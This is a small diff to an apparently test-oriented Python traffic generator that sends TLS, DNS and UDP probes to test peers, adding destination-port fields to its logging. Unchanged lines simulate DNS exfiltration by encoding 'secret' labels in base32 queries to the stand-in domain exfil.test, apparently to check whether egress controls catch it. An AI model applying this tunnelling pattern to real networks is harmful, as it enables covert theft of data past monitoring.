@@ -98,8 +98,8 @@ def rep(i: int) -> None:
     resolve_and_call("allowed.test" if MODE == "server" else f"{TAG}{i}.test")
     log(what="bare_tls", dst=PEER6, sport=hello((PEER6, 443), None))
     alt = DNSRecord.question(f"alt{TAG}{i}.test").pack()
-    log(what="dns_5353", sport=datagram((PEER4, 5353), alt))
-    log(what="datagram", sport=datagram((PEER4, 40000 + i), b"x" * 20))
+    log(what="dns_5353", dport=5353, sport=datagram((PEER4, 5353), alt))
+    log(what="datagram", dport=40000 + i, sport=datagram((PEER4, 40000 + i), b"x" * 20))
     label = base64.b32encode(f"{TAG}-secret-{i:04d}-".encode() + os.urandom(16)).decode().rstrip("=")[:50]
     qname = f"{label.lower()}.exfil.test"
     log(what="exfil", name=qname, sport=datagram((PEER4, 53), DNSRecord.question(qname).pack()))
